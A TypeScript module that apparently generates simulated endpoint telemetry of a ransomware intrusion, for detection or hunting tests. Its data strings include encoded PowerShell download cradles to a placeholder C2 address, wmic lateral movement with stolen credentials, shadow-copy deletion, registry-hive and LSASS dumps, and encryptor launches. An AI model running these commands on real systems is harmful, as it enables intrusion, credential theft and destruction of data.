/**
 * The intrusion of the sample day, in the style of the Chaos ransomware group (Talos, 2025):
 * a macro document on WS-FIN-023 starts PowerShell, the operator does domain recon, then uses
 * `wmic /node:... process call create` to reach file, database and backup servers, pivots once
 * from SQL01 to the domain controller, wipes shadow copies and launches the encryptor.
 */
import { PATIENT_ZERO, SERVERS } from './fleet.js';
import type { Host, Image } from './fleet.js';
import { IMG, WMIC } from './images.js';
import type { Rng } from './prng.js';
import type { Proc, RowSink } from './rows.js';
import { writeWmiChild } from './target-side.js';

const MINUTE = 60_000;
/** Public documentation range (RFC 5737): the operator's server. */
export const C2_IP = '203.0.113.77';
export const STOLEN_USER = 'CORP\\svc_backup';
/** Fake, for the redaction tests: it must never reach a log line or a notification. */
export const STOLEN_PASSWORD = 'Bkp!Vault2026';
const ENCRYPTOR = 'C:\\ProgramData\\winupd.exe -lkey 3f9c2a7d41e8 -mode fast -nomutex';

const psEncoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
const STAGER = psEncoded(`$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://${C2_IP}/cdn/jquery-3.7.1.min.js')`);
const BEACON = psEncoded(`IEX (New-Object Net.WebClient).DownloadString('http://${C2_IP}:8080/b')`);

/** The wmic remote launches of the intrusion: one entry per command, `repeats` identical rows. */
export const INTRUSION_LAUNCHES = [
  { from: PATIENT_ZERO.name, atMin: 65, repeats: 1, via: 'cmd', wmic: WMIC.lower, targets: ['fs01'],
    line: `wmic  /node:FS01 /user:"${STOLEN_USER}" /password:"${STOLEN_PASSWORD}" process call create "cmd.exe /c net localgroup administrators > C:\\Windows\\Temp\\la.txt 2>&1 & ipconfig /all >> C:\\Windows\\Temp\\la.txt"` },
  { from: PATIENT_ZERO.name, atMin: 80, repeats: 3, via: 'powershell', wmic: WMIC.disk, targets: ['sql01.corp.example'],
    line: `"C:\\WINDOWS\\system32\\wbem\\WMIC.exe" /node:sql01.corp.example process call create "powershell.exe -NoP -W Hidden -Enc ${BEACON}"` },
  { from: PATIENT_ZERO.name, atMin: 112, repeats: 1, via: 'cmd-c', wmic: WMIC.lower, targets: ['10.20.1.40'],
    line: 'wmic  /node:"10.20.1.40" process call create "cmd.exe /c vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet"' },
  { from: PATIENT_ZERO.name, atMin: 150, repeats: 2, via: 'cmd', wmic: WMIC.upper, targets: ['fs02', 'app01', '10.20.1.30'],
    line: `WMIC /node:FS02,APP01,10.20.1.30 /user:"${STOLEN_USER}" /password:"${STOLEN_PASSWORD}" process call create "${ENCRYPTOR}"` },
  // HV02 is a Hyper-V host the XDR rollout missed: no agent, so nothing on the target side.
  { from: PATIENT_ZERO.name, atMin: 163, repeats: 1, via: 'cmd', wmic: WMIC.lower, targets: ['hv02'],
    line: `wmic  /node:HV02 /user:"${STOLEN_USER}" /password:"${STOLEN_PASSWORD}" process call create "${ENCRYPTOR}"` },
  { from: PATIENT_ZERO.name, atMin: 171, repeats: 1, via: 'powershell', wmic: WMIC.disk, targets: ['bkp01'],
    line: '"C:\\WINDOWS\\system32\\wbem\\WMIC.exe" /node: BKP01 process call create "\\\\FS01\\IT$\\Deploy\\winupd.exe -lkey 3f9c2a7d41e8 -mode full"' },
  { from: SERVERS.SQL01.name, atMin: 101, repeats: 1, via: 'beacon', wmic: WMIC.disk, targets: ['dc01.corp.example'],
    line: '"C:\\Windows\\system32\\wbem\\WMIC.exe" /node:DC01.corp.example process call create "cmd.exe /c reg save HKLM\\SYSTEM C:\\Windows\\Temp\\s.hiv /y & reg save HKLM\\SECURITY C:\\Windows\\Temp\\se.hiv /y"' },
  // A target list file: the hunt sees only the file's name, so the target side cannot be checked
  // (confirmation `unavailable`); the hosts it lists are not named anywhere in the events.
  { from: PATIENT_ZERO.name, atMin: 176, repeats: 1, via: 'cmd', wmic: WMIC.lower, targets: ['@c:\\programdata\\usoshared\\srv.txt'],
    line: `wmic  /node:@C:\\ProgramData\\USOShared\\srv.txt /user:"${STOLEN_USER}" /password:"${STOLEN_PASSWORD}" process call create "${ENCRYPTOR}"` },
] as const;

/** Writes the intrusion's rows; `base` is when the victim opens the document. */
export function writeIntrusion(sink: RowSink, rng: Rng, base: number): void {
  const at = (min: number): number => base + min * MINUTE + rng.int(0, 40_000);
  const host = PATIENT_ZERO;
  const user = host.user;
  const outlook: Proc = { image: IMG.outlook, cmd: `"${IMG.outlook.path}" `, user };
  const winword: Proc = {
    image: IMG.winword,
    cmd: `"${IMG.winword.path}" /n "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZK2M1V\\Remittance_Advice_88314.docm" /o ""`,
    user,
  };
  const ps: Proc = { image: IMG.powershell, cmd: `powershell.exe -NoP -W Hidden -Exec Bypass -Enc ${STAGER}`, user };
  const shell: Proc = { image: IMG.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" ', user };
  const cgo = winword;

  sink.process({ host, time: at(0), action: winword, actor: outlook, causality: winword });
  sink.process({ host, time: at(1.5), action: ps, actor: winword, causality: cgo });
  sink.network({ host, time: at(2), actor: ps, causality: cgo }, C2_IP, 443);
  sink.file({ host, time: at(3), actor: ps, causality: cgo }, 'FILE_CREATE_NEW', 'C:\\ProgramData\\USOShared\\winupd.exe');
  sink.process({ host, time: at(11), action: shell, actor: ps, causality: cgo });

  const recon: ReadonlyArray<readonly [number, Image, string]> = [
    [12, IMG.whoami, 'whoami  /all'],
    [14, IMG.net, 'net  group "domain admins" /domain'],
    [14.1, IMG.net1, 'C:\\Windows\\system32\\net1  group "domain admins" /domain'],
    [17, IMG.nltest, 'nltest  /dclist:corp.example'],
    [18, IMG.nltest, 'nltest  /domain_trusts /all_trusts'],
    [22, IMG.net, 'net  view \\\\FS01 /all'],
    [26, WMIC.lower, 'wmic  /node:FS01 os get caption,version,osarchitecture'],
    [29, WMIC.lower, 'wmic  /node:FS01 process list brief'],
    [33, IMG.rundll32, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\USOShared\\d.bin full'],
  ];
  for (const [min, image, cmd] of recon) {
    sink.process({ host, time: at(min), action: { image, cmd, user }, actor: shell, causality: cgo });
  }

  const beaconOnSql: Proc = { image: IMG.powershell, cmd: `powershell.exe -NoP -W Hidden -Enc ${BEACON}`, user };
  for (const launch of INTRUSION_LAUNCHES) {
    const source = launch.from === PATIENT_ZERO.name ? host : SERVERS.SQL01;
    const chainCgo = source === host ? cgo : beaconOnSql;
    for (let i = 0; i < launch.repeats; i += 1) {
      const time = at(launch.atMin + i * 3);
      const wmic: Proc = { image: launch.wmic, cmd: launch.line, user };
      let parent: Proc;
      if (launch.via === 'cmd') parent = shell;
      else if (launch.via === 'cmd-c') {
        // cmd.exe /c wmic ...: the parent shell's own record carries the whole wmic line too.
        parent = { image: IMG.cmd, cmd: `"C:\\Windows\\system32\\cmd.exe" /c ${launch.line}`, user };
        sink.process({ host: source, time: time - 700, action: parent, actor: ps, causality: chainCgo });
      } else if (launch.via === 'beacon') parent = beaconOnSql;
      else parent = ps;
      sink.process({ host: source, time, action: wmic, actor: parent, causality: chainCgo });
      sink.process({ host: source, time: time + rng.int(800, 4_000), action: wmic, actor: parent, causality: chainCgo, subType: 'PROCESS_STOP' });
      for (const target of launch.targets) writeTargetSide(sink, rng, time, target, launch.line, launch.line.includes('/user:') ? STOLEN_USER : user);
    }
  }

  // Staging before the encryptor launch, and the encryptor's work on FS02.
  sink.process({
    host, time: at(142), actor: shell, causality: cgo,
    action: { image: IMG.cmd, user, cmd: 'cmd.exe  /c for %h in (FS02 APP01 10.20.1.30) do copy /y C:\\ProgramData\\USOShared\\winupd.exe \\\\%h\\C$\\ProgramData\\winupd.exe' },
  });
  const encryptor: Proc = { image: IMG.encryptor, cmd: ENCRYPTOR, user: STOLEN_USER };
  const folders = ['D:\\Shares\\Finance\\2026\\Q3', 'D:\\Shares\\HR\\Contracts', 'D:\\Shares\\Projects\\Atlas'];
  for (let i = 0; i < 36; i += 1) {
    const folder = rng.pick(folders);
    const file = `${folder}\\${rng.pick(['report', 'budget', 'contract', 'minutes', 'export'])}_${rng.int(100, 999)}.${rng.pick(['xlsx', 'docx', 'pdf', 'csv'])}`;
    sink.file({ host: SERVERS.FS02, time: at(152) + i * 2_500, actor: encryptor, causality: encryptor }, 'FILE_RENAME', `${file}.chaos`);
  }
  sink.file({ host: SERVERS.FS02, time: at(154), actor: encryptor, causality: encryptor }, 'FILE_CREATE_NEW', 'D:\\Shares\\readme.chaos.txt');
}

/**
 * The target hosts' agents. `hv02` has none (a blind spot); on APP01 the agent blocked the
 * encryptor, so its launches left no process start there (the launch did not run).
 */
const BY_TARGET: Readonly<Record<string, Host>> = {
  'fs01': SERVERS.FS01, 'fs02': SERVERS.FS02, 'app01': SERVERS.APP01, 'bkp01': SERVERS.BKP01,
  '10.20.1.40': SERVERS.BKP01, '10.20.1.30': SERVERS.SQL01, 'sql01.corp.example': SERVERS.SQL01,
  'dc01.corp.example': SERVERS.DC01,
};

/** Targets whose agent saw the launch fail: WmiPrvSE.exe started nothing there. */
const LAUNCH_BLOCKED = new Set(['app01']);

/** What the target host records: WmiPrvSE.exe starting the remote command a few seconds later. */
function writeTargetSide(sink: RowSink, rng: Rng, time: number, target: string, line: string, user: string): void {
  const host = BY_TARGET[target];
  if (LAUNCH_BLOCKED.has(target)) return;
  const payload = /call create "(.*)"\s*$/i.exec(line)?.[1];
  if (host === undefined || payload === undefined) return;
  const first = payload.split(' ')[0] ?? payload;
  const name = first.slice(first.lastIndexOf('\\') + 1);
  const known: Readonly<Record<string, Image>> = { 'cmd.exe': IMG.cmd, 'powershell.exe': IMG.powershell };
  const image: Image = known[name.toLowerCase()] ?? { name, path: first };
  writeWmiChild(sink, host, time + rng.int(1_500, 6_000), image, payload, user);
}
